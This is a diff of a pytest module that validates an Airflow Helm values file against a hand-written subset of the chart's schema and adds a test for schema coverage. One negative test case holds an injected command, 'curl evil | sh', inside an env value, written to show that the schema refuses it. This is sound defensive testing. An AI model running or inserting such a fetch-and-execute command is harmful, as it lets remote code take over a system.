@@ -1,12 +1,14 @@
 """``deploy/helm/values-tke.yaml`` is a valid values file of the official Airflow Helm chart (1.19.0):
-merged over the chart's defaults as Helm merges them, it passes the chart's ``values.schema.json``
-(what ``helm install`` checks first); and it fits this provider's RBAC manifest — the service
-accounts it names are exactly the subjects of ``deploy/rbac/airflow-worker.yaml``'s RoleBinding, and
-the connection the operators use is an in-cluster ``kubernetes`` connection.
+it passes the chart's ``values.schema.json`` (what ``helm install`` checks first); and it fits this
+provider's RBAC manifest — the service accounts it names are exactly the subjects of
+``deploy/rbac/airflow-worker.yaml``'s RoleBinding, and the connection the operators use is an
+in-cluster ``kubernetes`` connection.
 
-The chart's ``values.schema.json`` and ``values.yaml`` (apache/airflow, ``chart/``, chart 1.19.0)
-are reference data kept in ``tests/data/airflow-helm-chart-1.19.0/`` (see tests/data/README.md for
-where they come from); without them the schema checks are skipped, naming what is missing.
+The chart's files are not in the repository: the schema checks use a hand-written subset of the
+chart's schema, ``tests/data/airflow-helm-chart-1.19.0/values-subset.schema.json``, covering the keys
+the values file sets (its ``$comment`` says which and where they come from; ``tools/check_helm_subset.py``
+compares it with the chart's own schema). ``test_the_subset_covers_every_key_the_values_set`` keeps
+it covering them.
 """
 
 from __future__ import annotations
@@ -15,6 +17,7 @@ import copy
 import json
 from typing import Any
 
+import jsonschema
 import pytest
 import yaml
 
@@ -22,7 +25,7 @@ from tests.paths import DATA, ROOT
 
 VALUES = ROOT / "deploy" / "helm" / "values-tke.yaml"
 WORKER_RBAC = ROOT / "deploy" / "rbac" / "airflow-worker.yaml"
-CHART = DATA / "airflow-helm-chart-1.19.0"
+SUBSET = DATA / "airflow-helm-chart-1.19.0" / "values-subset.schema.json"
 RELEASE_NAMESPACE = "airflow"
 
 
@@ -40,20 +43,35 @@ def coalesce(defaults: dict[str, Any], overrides: dict[str, Any]) -> dict[str, A
     return out
 
 
-def chart_validator() -> Any:
-    schema, defaults = CHART / "values.schema.json", CHART / "values.yaml"
-    if not (schema.is_file() and defaults.is_file()):
-        pytest.skip(f"the chart's values.schema.json and values.yaml are not in {CHART} (tests/data/README.md)")
-    import jsonschema
-
-    validator = jsonschema.Draft7Validator(json.loads(schema.read_text()))
-    return validator, yaml.safe_load(defaults.read_text())
+def subset() -> dict[str, Any]:
+    return dict(json.loads(SUBSET.read_text()))
 
 
 def errors(values: dict[str, Any]) -> list[str]:
-    validator, defaults = chart_validator()
-    found = validator.iter_errors(coalesce(defaults, values))
+    # None of the covered keys is required by the chart, so merging over its defaults (values.yaml)
+    # would change nothing the subset checks: an empty map stands in for them; the merge still drops
+    # the values file's nulls as Helm does.
+    found = jsonschema.Draft7Validator(subset()).iter_errors(coalesce({}, values))
     return sorted(f"{'.'.join(str(p) for p in e.absolute_path)}: {e.message}" for e in found)
+
+
+def unchecked(values: Any, schema: Any, path: str = "") -> list[str]:
+    """The keys of ``values`` that the subset does not give a schema of their own."""
+    while isinstance(schema, dict) and "$ref" in schema:
+        schema = subset()["definitions"][schema["$ref"].rsplit("/", 1)[1]]
+    if isinstance(values, list):
+        return [k for item in values for k in unchecked(item, schema.get("items", {}), path + "[]")]
+    if not isinstance(values, dict):
+        return []
+    # of alternatives (a pull secret is a string or {name: ...}), a map is checked by the map's
+    schema = next((o for o in schema.get("oneOf", []) if o.get("type") == "object"), schema)
+    found = []
+    for key, value in values.items():
+        rest = schema.get("additionalProperties")
+        sub = schema.get("properties", {}).get(key, rest if isinstance(rest, dict) else None)
+        where = f"{path}.{key}".lstrip(".")
+        found += [where] if sub in (None, True) else unchecked(value, sub, where)
+    return found
 
 
 def ours() -> dict[str, Any]:
@@ -64,11 +82,20 @@ def test_the_values_pass_the_charts_schema() -> None:
     assert errors(ours()) == []
 
 
+def test_the_subset_covers_every_key_the_values_set() -> None:
+    # A key the subset does not describe would pass unchecked: describe it from the chart's schema
+    # (tests/data/README.md) before setting it.
+    assert unchecked(ours(), subset()) == []
+
+
 @pytest.mark.parametrize(
     ("change", "expected"),
     [
         # a misspelt key: the chart would ignore it, the schema refuses it
-        (lambda v: v["logs"]["persistence"].update(storageClass="cfs"), "logs.persistence: Additional properties"),
+        (
+            lambda v: v["logs"]["persistence"].update(storageClass="cfs"),
+            "logs.persistence: Additional properties are not allowed ('storageClass' was unexpected)",
+        ),
         # a hostile value where the chart expects a list of name/value pairs
         (lambda v: v.update(env="AIRFLOW__CORE__EXECUTOR=; curl evil | sh"), "env: 'AIRFLOW__CORE__EXECUTOR="),
         # an oversized one: a whole pod template where a boolean goes
